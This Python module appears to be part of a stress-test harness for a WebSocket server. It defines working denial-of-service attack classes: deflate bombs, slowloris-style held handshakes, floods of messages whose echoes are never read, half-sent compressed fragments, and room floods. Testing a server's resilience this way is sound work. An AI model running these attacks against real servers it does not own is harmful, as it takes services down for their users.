"""The attacks: each is a process of its own, so that it does not slow down the client that is measured."""

import os
import selectors
import socket

import peer
from peer import BINARY, FIN, RSV1, TEXT

MIB = 1 << 20


class Attack:
    """Opens connections, and pushes what it has to say into them, as far as they take it. What comes back is not read, unless `reads`."""

    peers = 1
    path = "/"
    deflate = False
    reads = False

    def start(self):
        """What each peer says first."""
        return b""

    def more(self):
        """What it says then, again and again."""
        return b""

    def open(self, address):
        sock = peer.connect(address, self.path, self.deflate, narrow=not self.reads)
        sock.setblocking(False)
        return sock

    def run(self, address, ready, stop):
        # What is left to be said on each connection.
        left = {}
        for _ in range(self.peers):
            try:
                left[self.open(address)] = self.start()
            except OSError:
                # It is refused: that is the server's right.
                pass
        ready.set()
        selector = selectors.DefaultSelector()
        for sock in left:
            selector.register(sock, selectors.EVENT_WRITE | (selectors.EVENT_READ if self.reads else 0))
        while not stop.is_set() and left:
            for key, events in selector.select(0.05):
                sock = key.fileobj
                try:
                    if events & selectors.EVENT_READ and not sock.recv(MIB):
                        raise ConnectionError
                    if events & selectors.EVENT_WRITE:
                        if not left[sock]:
                            left[sock] = self.more()
                        if left[sock]:
                            left[sock] = left[sock][sock.send(left[sock][:MIB]) :]
                        else:
                            selector.modify(sock, selectors.EVENT_READ)
                except BlockingIOError:
                    pass
                except OSError:
                    selector.unregister(sock)
                    del left[sock]
                    sock.close()
        # Until the end of the attack, what could be said is held.
        stop.wait()


class WaitingCallbacks(Attack):
    """Forty peers whose requests are shorter than the answers, which wait for room."""

    name = "waiting callbacks"
    peers, path = 40, "/long"

    def start(self):
        return peer.frame(FIN | TEXT, b"hi") * 8192


class DeflateBombs(Attack):
    """Eight peers that send 64 KB for 64 MB, again and again."""

    name = "deflate bombs"
    peers, path, deflate, reads = 8, "/long", True, True

    def __init__(self):
        self.bomb = peer.frame(FIN | RSV1 | BINARY, peer.compressed(15 * MIB)) * 4

    def more(self):
        return self.bomb


class UnreadEchoes(Attack):
    """One long message each, whose echo is not read."""

    name = "unread echoes"
    peers = 24

    def start(self):
        return peer.frame(FIN | BINARY, bytes(8 * MIB))


class HalfSent(Attack):
    """Compressed messages of which only the first fragment comes."""

    name = "half-sent compressed messages"
    peers, deflate = 40, True

    def __init__(self):
        self.half = peer.frame(RSV1 | BINARY, peer.compressed(8 * MIB))

    def start(self):
        return self.half


class Pipelining(Attack):
    """Messages without end, whose echoes are not read."""

    name = "pipelining echoes"
    peers = 40

    def __init__(self):
        self.many = peer.frame(FIN | BINARY, os.urandom(1024)) * 64

    def more(self):
        return self.many


class RoomFlood(Pipelining):
    """Members of a room that say as much as they can, and read nothing."""

    name = "room flood"
    peers, path = 12, "/room"


class HeldHandshakes(Attack):
    """Requests that are begun and not finished."""

    name = "held handshakes"
    peers = 200

    def open(self, address):
        sock = socket.create_connection(address, 10)
        sock.sendall(peer.request("/")[:40])
        sock.setblocking(False)
        return sock

    def run(self, address, ready, stop):
        held = [self.open(address) for _ in range(self.peers)]
        ready.set()
        stop.wait()
        for sock in held:
            sock.close()


ALL = [WaitingCallbacks, DeflateBombs, UnreadEchoes, HalfSent, Pipelining, RoomFlood, HeldHandshakes]
